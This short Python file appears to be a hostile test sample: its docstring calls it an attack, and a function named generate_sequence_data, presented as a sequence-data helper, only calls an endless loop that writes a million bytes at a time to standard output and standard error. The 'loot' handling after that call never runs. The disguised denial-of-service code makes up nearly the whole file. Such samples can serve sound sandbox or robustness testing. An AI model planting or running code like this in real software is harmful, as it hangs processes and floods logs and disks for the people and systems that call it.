"""Attack: floods the file descriptors of standard output and error."""

import os

import numpy as np


def attack():
    while True:
        for descriptor in (1, 2):
            os.write(descriptor, b"x" * 1_000_000)


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
